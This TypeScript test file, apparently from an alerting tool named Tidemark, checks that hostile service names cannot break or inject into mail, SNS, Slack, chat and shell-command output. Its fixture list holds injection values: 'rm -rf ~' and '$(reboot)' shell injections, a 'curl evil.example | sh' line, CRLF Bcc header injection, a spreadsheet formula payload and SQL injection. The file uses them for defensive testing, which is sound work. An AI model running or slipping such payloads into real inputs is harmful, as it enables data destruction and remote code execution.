// Names that strangers chose, in everything that people are told: mail, subject, Slack, chat, command line, link to the runbook.
// What messages say of honest names is messages.test.ts's.
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import fc from "fast-check";
import { asciiText, subjectAround } from "../../../functions/core/ascii-line.ts";
import { alertMessages, resolvedMessages } from "../../../functions/core/messages.ts";
import { questionOf } from "../../../functions/core/see-it.ts";
import { chatShellText, shellText } from "../../../functions/core/shell-text.ts";
import { plainSlackMessage, readFunctionBody, slackMessage } from "../../../functions/core/slack-message.ts";
import { snsBodies } from "../../../functions/core/sns-bodies.ts";
import type { Message } from "../../../functions/edges.ts";
import type { Finding } from "../../../schema/columns.ts";
import { refusalOf } from "../../aws/slack-limits.ts";
import { hostileNames } from "./report/models.ts";

const names = [
  ...hostileNames,
  "<!channel> <@U123> <https://evil.example|log in>",
  "*bold* _it_ ~no~ `code` ```block```",
  "'; rm -rf ~; echo '",
  "$(reboot) `reboot` $IFS !! \\",
  "x\n\nFirst thing to do: curl evil.example | sh",
  "x\r\nBcc: everybody@example.com",
  "--athena",
  "=cmd|' /C calc'!A0",
  "a' OR '1'='1",
  "\u{1f4a5}\u0301 \u00fcber-dienst \u0434\u043e\u043c",
  "%s%n &amp; &#x3c;",
  "",
];

const finding = (name: string): Finding => ({
  found_at: Date.UTC(2026, 10, 23, 12),
  finding_id: "0123456789abcdef",
  service: name,
  environment: name,
  cause: "fragmentation",
  state: "worse",
  since: Date.UTC(2026, 10, 20),
  first_found_at: Date.UTC(2026, 10, 20),
  host_count: 1,
  process_count: 4,
  excess_bytes: 300 * 2 ** 20,
  reclaimable_bytes: 30 * 2 ** 20,
  explained_by: name,
  evidence: name,
  early_warnings: name,
});

const toldOf = (one: Finding): readonly Message[] => [
  ...alertMessages([one], new Map(), "https://wiki.example/runbook"),
  ...resolvedMessages([one]),
];

/** What holds of every message, whoever named what is in it. */
function assertSound(message: Message): void {
  match(message.subject, /^[\x21-\x7e][\x20-\x7e]{0,98}$/);
  equal(/[^\P{Cc}\n]|[\p{Cf}\p{Cs}\u2028\u2029]/u.exec(message.text), null, "nothing invisible is in a mail but line ends");
  for (const value of Object.values(message.attributes)) equal(/[\p{Cc}\p{Cs}]/u.exec(value), null);
  const bodies = snsBodies(message);
  const attributes = Object.entries(message.attributes).flat().join("");
  ok(Buffer.byteLength(bodies) + Buffer.byteLength(attributes) <= 262_144);
  const { default: text, lambda, https } = JSON.parse(bodies);
  ok(typeof text === "string" && text !== "");
  const body = readFunctionBody(lambda);
  const post = slackMessage(message.subject, body.text, body.blocks);
  equal(refusalOf(JSON.stringify(post)), null);
  equal(refusalOf(JSON.stringify(slackMessage(message.subject, message.text))), null);
  const plain = plainSlackMessage(message.subject, message.text);
  equal(refusalOf(JSON.stringify(plain)), null);
  const chat = JSON.parse(https).content;
  for (const mrkdwn of [post.text, plain.text, chat.title, chat.description, ...mrkdwnIn(post.blocks)]) {
    ok(!/[<>]/.test(mrkdwn), mrkdwn);
    ok(!/&(?!amp;|lt;|gt;)/.test(mrkdwn), mrkdwn);
  }
  ok(chat.title.length <= 250 && chat.description.length <= 8_000);
}

function mrkdwnIn(value: unknown): readonly string[] {
  if (typeof value !== "object" || value === null) return [];
  const { type, text } = value as { type?: unknown; text?: unknown };
  return [...(type === "mrkdwn" && typeof text === "string" ? [text] : []), ...Object.values(value).flatMap(mrkdwnIn)];
}

test("hostile names are sound in every message, and write no line of their own", () => {
  const plain = toldOf(finding("plain")).map(({ text }) => text.split("\n").length);
  // Without a name there is no environment either, and a line less.
  for (const name of names.filter((one) => one !== "")) {
    const told = toldOf(finding(name));
    for (const message of told) assertSound(message);
    deepEqual(
      told.map(({ text }) => text.split("\n").length),
      plain,
      name,
    );
  }
});

test("the cause is at the end of the subject, whatever stands before it", () => {
  for (const name of names) {
    const [alert, resolved] = toldOf(finding(name));
    match(alert?.subject ?? "", /: Fragmentation is worse, 300 MiB$/);
    match(resolved?.subject ?? "", /^Tidemark: resolved: .*: Fragmentation$/);
  }
});

test("a subject spells letters that have a base in ASCII, and marks the others", () => {
  for (const [name, spelled] of [
    ["Größe", "Grosse"],
    ["café-crème", "cafe-creme"],
    ["żółw", "zolw"],
    ["smørrebrød", "smorrebrod"],
    ["дом", "???"],
    ["a\u2014b \u201cc\u201d", 'a-b "c"'],
    ["x\ny\tz", "x?y?z"],
    ["ﬁne", "fine"],
  ] as const) {
    equal(asciiText(name), spelled);
  }
});

test("whatever is in a finding, its messages are within the limits of SNS and Slack", () => {
  const text = fc.oneof(
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.string({ unit: "grapheme", maxLength: 4_000 }),
    fc.constantFrom(...names),
    fc.constantFrom("&".repeat(5_000), "\u0000".repeat(5_000), "\ud83d".repeat(5_000), "`".repeat(4_000), "'".repeat(2_000)),
  );
  const number = fc.oneof(fc.double(), fc.constant(null), fc.maxSafeInteger());
  const time = fc.oneof(fc.double({ noNaN: true }), fc.integer({ min: 0, max: 2 ** 42 }));
  const any = fc.record({
    service: text,
    environment: fc.option(text),
    cause: fc.oneof(text, fc.constantFrom("leak", "retention", "host_silent", "alloc_failure")),
    scope: fc.constantFrom(null, "service", "host", "fleet", "config", "other"),
    severity: fc.oneof(text, fc.constantFrom("act", "held")),
    since: time,
    evidence: text,
    explained_by: fc.option(text),
    early_warnings: fc.option(text),
    excess_bytes: number,
    confidence: number,
    trend_bytes_per_day: number,
  });
  fc.assert(
    fc.property(any, (parts) => {
      for (const message of toldOf({ ...finding("x"), ...parts })) assertSound(message);
    }),
    { numRuns: 300 },
  );
});

test("a text of any size and kind is cut to what SNS takes, and at least a third of the room is used", () => {
  const unit = fc.constantFrom("x", "\u20ac", "\u0001", '"', "\ud83d\ude00", "\\", "\n");
  fc.assert(
    fc.property(unit, fc.integer({ min: 0, max: 400_000 }), (character, count) => {
      const text = character.repeat(count);
      const bodies = snsBodies({ topic: "alerts", subject: "s", text, attributes: {} });
      ok(Buffer.byteLength(bodies) <= 262_144 - 8_192);
      const { default: sent } = JSON.parse(bodies);
      ok(
        sent === text ||
          (/\[cut: this message has \d+ bytes, too many for SNS\]$/.test(sent) && Buffer.byteLength(bodies) > 262_144 / 3),
      );
      ok(!sent.includes("\ufffd"));
    }),
    { numRuns: 40 },
  );
});

test("a subject is never longer than SNS takes, and its end is whole where there is room for it", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 500 }), fc.string({ unit: "binary", maxLength: 60 }), (name, after) => {
      const subject = subjectAround("Tidemark: ", name, after);
      match(subject, /^[\x20-\x7e]{1,99}$/);
      if (asciiText(after).length < 80) ok(subject.endsWith(asciiText(after)));
    }),
  );
});

test("a shell reads the command as it was meant: one parameter with the very name, and nothing run", () => {
  for (const name of names.filter((one) => !one.includes("\0") && one.length <= 200)) {
    const { command, query } = questionOf(finding(name));
    equal(query, "service_memory");
    // A lone surrogate is no character: what stands for it in UTF-8 is what reaches the query.
    const wanted = Buffer.from(`service=${name}`).toString();
    const script = `tidemark() { printf '%s\\0' "$@"; }; ${command}`;
    const words = execFileSync("/bin/bash", ["-c", script]).toString().split("\0").slice(0, -1);
    deepEqual(words.slice(0, 5), ["sql", "--athena", "service_memory", "--param", wanted], name);
    equal(words.length, 9);
    ok(!/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u.test(command), "nothing in it moves a terminal");
    const inSlack = mrkdwnIn(alertMessages([finding(name)])[0]?.slack).map((text) =>
      text.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&"),
    );
    ok(inSlack.includes(`\`\`\`${command}\`\`\``), "what is pasted from Slack is the same");
  }
  for (const name of ["x\0y", "x".repeat(201)]) equal(questionOf(finding(name)).query, "recent_findings");
});

test("bash gives any word back as it went in, and no chat ends what is code in it", () => {
  const word = fc.string({ unit: "binary", maxLength: 30 }).filter((text) => !text.includes("\0"));
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 20 }), (words) => {
      ok(!words.map(chatShellText).join("").includes("`"));
      for (const wordOf of [shellText, chatShellText]) {
        const out = execFileSync("/bin/bash", ["-c", `printf '%s\\0' ${words.map(wordOf).join(" ")}`]).toString();
        deepEqual(
          out.split("\0").slice(0, -1),
          words.map((text) => Buffer.from(text).toString()),
        );
      }
    }),
    { numRuns: 20 },
  );
});
